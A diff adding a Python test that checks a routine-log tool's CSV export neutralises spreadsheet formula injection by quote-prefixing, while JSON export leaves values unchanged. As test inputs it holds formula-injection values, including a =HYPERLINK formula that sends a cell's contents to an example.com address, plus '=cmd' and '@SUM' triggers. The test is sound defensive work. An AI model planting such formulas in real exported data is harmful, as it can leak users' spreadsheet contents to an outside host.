@@ -376,3 +376,31 @@ def test_export_onto_the_log_itself_is_refused(
     assert log_path.read_bytes() == before
     assert main(["log"]) == 0
     assert len(capsys.readouterr().out.splitlines()) == 2
+
+
+def test_export_csv_keeps_spreadsheets_from_running_text_as_formulas(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A routine file is shared and downloaded; its name goes into the log and the export.
+    A name like =HYPERLINK(...) became a live formula in the spreadsheet that opened the
+    CSV. Text that a spreadsheet would run starts with ' (as OWASP advises); numbers stay."""
+    name = '=HYPERLINK("http://example.com/?"&A1,"Neck")'
+    noted = replace(
+        make(local(TODAY), routine="=cmd"),
+        routine_name=name,
+        note="+1 better; @SUM(1)",
+        skipped_steps=("-Plank",),
+        steps_skipped=1,
+        utc_offset_minutes=-300,
+    )
+    seed([noted])
+    assert main(["export"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert row["routine_id"] == "'=cmd"
+    assert row["routine_name"] == "'" + name
+    assert row["note"] == "'+1 better; @SUM(1)"
+    assert row["skipped_steps"] == "'-Plank"
+    assert row["utc_offset_minutes"] == "-300"
+    assert main(["export", "--format", "json"]) == 0  # JSON is data, not a sheet: as is
+    [item] = json.loads(capsys.readouterr().out)
+    assert item["routine_name"] == name and item["utc_offset_minutes"] == -300
